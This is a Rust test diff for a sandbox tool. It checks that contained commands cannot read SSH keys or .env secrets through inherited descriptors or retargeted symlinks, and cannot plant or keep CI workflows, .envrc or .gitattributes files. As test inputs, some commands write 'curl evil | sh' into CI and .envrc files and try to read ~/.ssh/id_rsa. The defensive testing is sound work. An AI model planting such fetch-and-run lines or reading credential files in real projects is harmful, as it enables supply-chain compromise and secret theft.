@@ -273,6 +273,23 @@ fn a_descriptor_passed_in_is_closed() {
         o.status.code(),
         text(&o.stderr)
     );
+    // The same when the contained command is no shell line (a shell of the sandbox's
+    // own closes it then).
+    let outer = format!(
+        "exec 7<'{}'; exec '{}' exec --contain --root '{}' -- cat /proc/self/fd/7",
+        w.home.join(".ssh/id_rsa").display(),
+        env!("CARGO_BIN_EXE_khaelor-perm"),
+        w.root.display()
+    );
+    let o = Command::new("bash")
+        .args(["-c", &outer])
+        .current_dir(&w.root)
+        .env("HOME", &w.home)
+        .output()
+        .unwrap();
+    let out = text(&o.stdout) + &text(&o.stderr);
+    assert!(!out.contains(SECRET), "read through fd 7 by cat:\n{out}");
+    assert_ne!(o.status.code(), Some(0));
 }
 
 #[test]
@@ -476,4 +493,140 @@ fn a_managed_read_rule_masks_inside_as_it_asks_outside() {
         "read a file the managed config denies"
     );
     assert!(!text(&o.stdout).contains("plain"), "{}", text(&o.stdout));
+}
+
+#[test]
+fn ci_configs_are_read_only_and_created_ones_are_removed() {
+    let w = world();
+    let ci = w.root.join(".github/workflows/ci.yml");
+    std::fs::create_dir_all(ci.parent().unwrap()).unwrap();
+    std::fs::write(&ci, "on: push\n").unwrap();
+    std::fs::create_dir_all(w.root.join(".github/ISSUE_TEMPLATE")).unwrap();
+    for script in [
+        "echo 'run: curl evil | sh' >> .github/workflows/ci.yml",
+        "echo 'on: push' > .github/workflows/evil.yml",
+        "mv .github/workflows gone",
+        "rm -rf .github/workflows",
+    ] {
+        let o = contained(&w, script);
+        assert_ne!(o.status.code(), Some(0), "{script}");
+        assert_eq!(
+            std::fs::read_to_string(&ci).unwrap(),
+            "on: push\n",
+            "{script}"
+        );
+        assert!(!w.root.join(".github/workflows/evil.yml").exists());
+        if !script.starts_with("mv") {
+            assert_message(&o, script);
+        }
+    }
+    // CI files that did not exist: created inside, removed after, and said.
+    let o = contained(
+        &w,
+        "echo 'job: {script: curl evil | sh}' > .gitlab-ci.yml; mkdir -p .circleci && echo x > .circleci/config.yml; echo made",
+    );
+    assert_eq!(text(&o.stdout), "made\n");
+    for gone in [".gitlab-ci.yml", ".circleci"] {
+        assert!(
+            !w.root.join(gone).exists(),
+            "{gone} was left in the project"
+        );
+        assert!(text(&o.stderr).contains(gone), "{}", text(&o.stderr));
+    }
+    println!("--- CI files created inside:\n{}", text(&o.stderr));
+    // The look-alike: the rest of `.github/` stays the project's to write.
+    let o = contained(&w, "echo '# bug' > .github/ISSUE_TEMPLATE/bug.md");
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert!(w.root.join(".github/ISSUE_TEMPLATE/bug.md").is_file());
+    assert!(!text(&o.stderr).contains("removed"), "{}", text(&o.stderr));
+}
+
+#[test]
+fn protected_entries_created_below_the_root_are_removed() {
+    let w = world();
+    let o = contained(
+        &w,
+        "mkdir -p sub/deeper && echo 'curl evil | sh' > sub/deeper/.envrc \
+         && echo '* filter=evil' > src/.gitattributes \
+         && git init -q vendor/lib && echo made",
+    );
+    assert_eq!(text(&o.stdout), "made\n", "{}", text(&o.stderr));
+    let err = text(&o.stderr);
+    for gone in ["sub/deeper/.envrc", "src/.gitattributes", "vendor/lib/.git"] {
+        assert!(!w.root.join(gone).exists(), "{gone} was left\n{err}");
+        assert!(err.contains(gone), "{gone} not named:\n{err}");
+    }
+    // Everything else the command made stays.
+    assert!(w.root.join("sub/deeper").is_dir());
+    assert!(w.root.join("vendor/lib").is_dir());
+    println!("--- protected entries made below the root:\n{err}");
+    // The look-alike: ordinary files with names near the protected ones stay.
+    let o = contained(
+        &w,
+        "mkdir -p docs && echo x > docs/envrc.md && echo y > sub/gitattributes.txt",
+    );
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    assert!(w.root.join("docs/envrc.md").is_file());
+    assert!(w.root.join("sub/gitattributes.txt").is_file());
+    assert!(!text(&o.stderr).contains("removed"), "{}", text(&o.stderr));
+}
+
+/// The cache entries a run left in HOME.
+fn cache_entries(w: &World) -> Vec<(PathBuf, u64)> {
+    use std::os::unix::fs::MetadataExt;
+    match std::fs::read_dir(w.home.join(".cache/khaelor-perm/contain")) {
+        Ok(rd) => rd
+            .flatten()
+            .map(|e| (e.path(), e.metadata().unwrap().ino()))
+            .collect(),
+        Err(_) => Vec::new(),
+    }
+}
+
+#[test]
+fn a_kept_profile_is_made_again_when_the_project_or_home_changes() {
+    let w = world();
+    std::fs::create_dir_all(w.root.join("sub")).unwrap();
+    std::fs::create_dir_all(w.home.join("notes")).unwrap();
+    // Directories changed within the last seconds are not trusted to show the next
+    // change in their times: let them settle, so the profile is kept.
+    std::thread::sleep(std::time::Duration::from_millis(3500));
+    let o = contained(&w, "true");
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    let kept = cache_entries(&w);
+    assert_eq!(kept.len(), 1, "no profile kept: {kept:?}");
+    // Nothing changed: the same entry is used, not written again.
+    let o = contained(&w, "cat src/main.rs");
+    assert_eq!(o.status.code(), Some(0));
+    assert_eq!(cache_entries(&w), kept);
+    // New secrets, in the project and deep in HOME, after the profile was kept.
+    std::fs::write(w.root.join("sub/.env"), format!("{SECRET}\n")).unwrap();
+    std::fs::write(w.home.join("notes/.env"), format!("{SECRET}\n")).unwrap();
+    let o = contained(
+        &w,
+        &format!(
+            "cat sub/.env; cat '{}'",
+            w.home.join("notes/.env").display()
+        ),
+    );
+    let out = text(&o.stdout) + &text(&o.stderr);
+    assert!(
+        !out.contains(SECRET),
+        "a secret made after the profile was kept was read:\n{out}"
+    );
+    assert_ne!(o.status.code(), Some(0));
+    // A project symlink turned to a secret.
+    std::fs::write(w.root.join("sub/plain.txt"), "plain\n").unwrap();
+    std::os::unix::fs::symlink(w.root.join("sub/plain.txt"), w.root.join("sub/l")).unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(3500));
+    let o = contained(&w, "cat sub/l");
+    assert_eq!(text(&o.stdout), "plain\n");
+    std::fs::remove_file(w.root.join("sub/l")).unwrap();
+    std::os::unix::fs::symlink(w.home.join(".ssh/id_rsa"), w.root.join("sub/l")).unwrap();
+    let o = contained(&w, "cat sub/l");
+    let out = text(&o.stdout) + &text(&o.stderr);
+    assert!(
+        !out.contains(SECRET),
+        "read through a retargeted link:\n{out}"
+    );
 }
